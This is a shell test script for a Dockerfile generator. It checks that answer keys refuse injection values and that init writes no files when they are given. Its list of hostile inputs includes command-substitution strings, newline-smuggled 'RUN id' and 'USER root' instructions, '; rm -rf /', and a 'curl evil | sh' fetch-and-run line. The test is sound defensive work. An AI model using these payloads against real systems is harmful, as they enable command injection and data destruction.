#!/bin/sh
# Injection safety: every string-like answer key (strings, argv items, the
# system package lists) is fed hostile values through --answers: a newline
# with an instruction after it, a double quote, $(...), backticks, a
# backslash, a NUL, "; rm", a very long value. Each must be refused with
# exit 2 and a message naming the key, by both `generate` and `init`, and
# init must write nothing. Whatever is accepted (nothing should be) must not
# add an instruction to the Dockerfile.
set -u
src=${SS_SOURCE_DIR:?}
ss=${SHIPSHAPE:?}
work=$(mktemp -d "${TMPDIR:-/tmp}/shipshape-inject.XXXXXX")
trap 'rm -rf "$work"' EXIT
mkdir "$work/empty" "$work/cases"

# one answers file per (key, value): the example's answers with one key replaced
python3 - "$src/templates/answers.json" "$src/examples/flask-gunicorn/answers.json" "$work/cases" <<'PY'
import json, os, sys
schema = json.load(open(sys.argv[1]))
base = json.load(open(sys.argv[2]))
out = sys.argv[3]
hostile = [
    "x\nRUN id",
    "x\r\nUSER root",
    'x"y',
    "$(id)",
    "`id`",
    "x\\y",
    "x\u0000RUN id",
    "; rm -rf /",
    "x && curl evil | sh",
    "a" * 5000,
    "x'y",
    "x\tRUN id",
    "${HOME}",
]
n = 0
def case(key, value, label):
    global n
    a = dict(base)
    if key in ("command",):
        a["app_kind"] = "cli"
    a[key] = value
    n += 1
    with open(os.path.join(out, "%04d.json" % n), "w") as f:
        json.dump(a, f)
    with open(os.path.join(out, "%04d.key" % n), "w") as f:
        f.write(label)
for k in schema["keys"]:
    t, key = k["type"], k["key"]
    if t == "string":
        for h in hostile:
            case(key, h, key)
            case(key, "ok" + h, key)
    elif t == "argv":
        for h in hostile:
            case(key, ["python", h], key)
    elif t == "object" and key == "system_packages":
        for h in hostile:
            case(key, {"build": [h], "runtime": []}, key)
            case(key, {"build": [], "runtime": ["libpq5", h]}, key)
    elif t == "int":
        for v in ["8000; rm -rf /", 0, -1, 70000, 1e12, "8000\nRUN id"]:
            case(key, v, key)
print("injection cases: %d" % n)
PY
fail=0 total=0
base_instr=$("$ss" --templates "$src/templates" generate "$work/empty" \
	--answers "$src/examples/flask-gunicorn/answers.json" --tier 6 --file Dockerfile |
	grep -cE '^[A-Z]+ ')
for f in "$work"/cases/*.json; do
	key=$(cat "${f%.json}.key")
	total=$((total + 1))
	"$ss" --templates "$src/templates" generate "$work/empty" --answers "$f" --tier 6 \
		--file Dockerfile >"$work/out" 2>"$work/err"
	rc=$?
	if [ $rc -eq 0 ]; then
		n=$(grep -cE '^[A-Z]+ ' "$work/out")
		if grep -qE '^(RUN id|USER root)' "$work/out" || [ "$n" -gt "$base_instr" ]; then
			echo "FAIL: $key: a hostile value added an instruction ($(basename "$f"))"
			fail=1
		else
			echo "FAIL: $key: hostile value accepted ($(basename "$f")): $(head -c 120 "$f")"
			fail=1
		fi
		continue
	fi
	# a NUL is refused while reading the JSON: file:line:col, and the key
	if [ $rc -eq 2 ] && grep -q 'NUL' "$work/err"; then
		grep -q "^shipshape: $f:[0-9]*:[0-9]*: invalid value for '$key': a NUL character" "$work/err" ||
			{ echo "FAIL: $key: a NUL should be refused naming the key: $(head -c 200 "$work/err")"; fail=1; }
		continue
	fi
	if [ $rc -ne 2 ] || ! grep -q "'$key'" "$work/err"; then
		echo "FAIL: $key: generate exit $rc, message does not name '$key': $(head -c 200 "$work/err")"
		fail=1
		continue
	fi
	# the value came from the answers file: the message names it (there is
	# no profile), in the answers validator's words ("argument N")
	if ! grep -q "^shipshape: $f: " "$work/err" || grep -q '\.shipshape\.json\|item [0-9]' "$work/err"; then
		echo "FAIL: $key: the message should name '$f' as the answers' source: $(head -c 200 "$work/err")"
		fail=1
	fi
done
# init refuses too, writing nothing (the first value of each key)
for f in "$work"/cases/*.json; do
	key=$(cat "${f%.json}.key")
	[ -e "$work/init-$key" ] && continue
	mkdir "$work/init-$key"
	cp "$src/examples/flask-gunicorn/app.py" "$src/examples/flask-gunicorn/requirements.txt" "$work/init-$key/"
	"$ss" --templates "$src/templates" init "$work/init-$key" --answers "$f" --yes >/dev/null 2>"$work/err"
	rc=$?
	if [ $rc -ne 2 ] || ! grep -q "'$key'\|NUL" "$work/err"; then
		echo "FAIL: init with a hostile '$key': exit $rc: $(head -c 200 "$work/err")"
		fail=1
	fi
	if [ -e "$work/init-$key/Dockerfile" ] || [ -e "$work/init-$key/.shipshape.json" ]; then
		echo "FAIL: init with a hostile '$key' wrote files"
		fail=1
	fi
done
keys=$(for k in "$work"/cases/*.key; do cat "$k"; echo; done | sort -u | wc -l)
echo "injection: $total hostile answers tried over $keys keys; every one refused with exit 2"
exit $fail
